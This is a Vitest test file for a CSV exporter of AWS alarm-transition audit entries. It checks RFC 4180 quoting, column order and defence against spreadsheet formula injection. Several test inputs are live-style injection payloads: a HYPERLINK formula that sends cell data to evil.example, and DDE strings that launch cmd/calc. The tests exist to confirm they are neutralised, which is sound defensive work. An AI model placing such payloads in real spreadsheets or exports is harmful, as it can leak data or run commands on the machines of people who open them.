import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvField, csvHeader, csvRow, entryToCsv } from '../../shared/audit/csv.js';
import type { TransitionEntry } from '../../shared/ledger/store.js';

/** A strict RFC 4180 reader (quoted fields, doubled quotes, CRLF records) to read the writer's output back. */
const parseCsv = (text: string): string[][] => {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        if (q < 0) throw new Error('unterminated quoted field');
        field += text.slice(i, q);
        if (text[q + 1] === '"') {
          field += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
    } else if (text[i] === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (text.startsWith('\r\n', i)) {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else {
      if (text[i] === '\n' || text[i] === '\r') throw new Error(`bare line break at ${i}`);
      field += text[i];
      i++;
    }
  }
  if (field || row.length) throw new Error('last record not CRLF-terminated');
  return rows;
};

const entry = (over: Partial<TransitionEntry> = {}): TransitionEntry => ({
  kind: 'transition',
  group: 'orders-api',
  seq: 3,
  transitionId: 't-3',
  role: 'primary',
  healthCheckId: '4dd370d3-b015-4e3f-a866-db054eabfffb',
  healthCheckIds: ['4dd370d3-b015-4e3f-a866-db054eabfffb'],
  alarmName: 'orders-api-primary-health',
  alarmArn: 'arn:aws:cloudwatch:us-east-1:123456789012:alarm:orders-api-primary-health',
  region: 'us-east-1',
  accountId: '123456789012',
  state: 'ALARM',
  previousState: null,
  stateChangedAt: '2025-06-12T14:03:27.412Z',
  recordedAt: '2025-06-12T14:03:28.000Z',
  sources: ['eventbridge', 'sns'],
  event: 'FAILED_OVER',
  stale: false,
  serving: 'secondary',
  reason: 'Threshold Crossed',
  reasonTruncated: false,
  metricMath: false,
  snapshot: { primary: { state: 'ALARM' } } as unknown as TransitionEntry['snapshot'],
  episode: null,
  openEpisode: 3,
  prevHash: 'a'.repeat(64),
  hash: 'b'.repeat(64),
  ...over,
});

describe('CSV writer', () => {
  it('leaves plain fields bare and quotes those with a comma, quote, CR or LF', () => {
    expect(['plain', 'a,b', 'say "hi"', 'line\nbreak', 'cr\rhere', 'crlf\r\nhere'].map(csvField)).toEqual([
      'plain',
      '"a,b"',
      '"say ""hi"""',
      '"line\nbreak"',
      '"cr\rhere"',
      '"crlf\r\nhere"',
    ]);
  });

  it('ends every record with CRLF', () => {
    expect(csvRow(['a', 1, true, null])).toBe('a,1,true,\r\n');
  });

  it('writes the header in the documented, stable column order', () => {
    expect(csvHeader()).toBe(
      'group,seq,kind,event,role,state,previousState,stateChangedAt,recordedAt,sources,healthCheckId,alarmName,alarmArn,region,serving,episode,stale,reason,prevHash,hash\r\n',
    );
  });

  it('round-trips a reason with commas, quotes, newlines and CRLF through an RFC 4180 reader', () => {
    // Arrange
    const reason = 'Threshold Crossed: 1 datapoint [0.0, 1.0] was "less"\nthan the threshold,\r\nsee runbook';
    // Act
    const rows = parseCsv(csvHeader() + entryToCsv(entry({ reason })) + entryToCsv(entry({ seq: 4, reason: 'ok' })));
    // Assert
    expect(rows).toHaveLength(3);
    expect(rows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
    const record = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, rows[1]?.[i]]));
    expect(record.reason).toBe(reason);
    expect(rows[2]?.[CSV_COLUMNS.indexOf('seq')]).toBe('4');
  });

  it('puts each entry field in its column: sources joined with |, null as empty, no snapshot', () => {
    const [row] = parseCsv(entryToCsv(entry({ previousState: null, episode: null })));
    const record = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, row?.[i]]));
    expect(record).toMatchObject({
      group: 'orders-api',
      seq: '3',
      kind: 'transition',
      event: 'FAILED_OVER',
      state: 'ALARM',
      previousState: '',
      sources: 'eventbridge|sns',
      episode: '',
      stale: 'false',
      serving: 'secondary',
      prevHash: 'a'.repeat(64),
      hash: 'b'.repeat(64),
    });
    expect(row).toHaveLength(CSV_COLUMNS.length);
    expect(row?.some((f) => f.includes('[object Object]'))).toBe(false);
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('prefixes a cell a spreadsheet would run as a formula with a quote: %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it('leaves a formula character that is not first, and an empty field, as they are', () => {
    expect(['a=b', 'x-1', 'mail@example.com', '', 'Threshold Crossed: -1'].map(csvField)).toEqual([
      'a=b',
      'x-1',
      'mail@example.com',
      '',
      'Threshold Crossed: -1',
    ]);
  });

  it('writes an alarm reason starting with = as text that reads back with the quote prefix', () => {
    // Arrange
    const reason = '=cmd|"/C calc"!A0, see runbook';
    // Act
    const [row] = parseCsv(entryToCsv(entry({ reason })));
    // Assert
    expect(row?.[CSV_COLUMNS.indexOf('reason')]).toBe(`'${reason}`);
  });
});
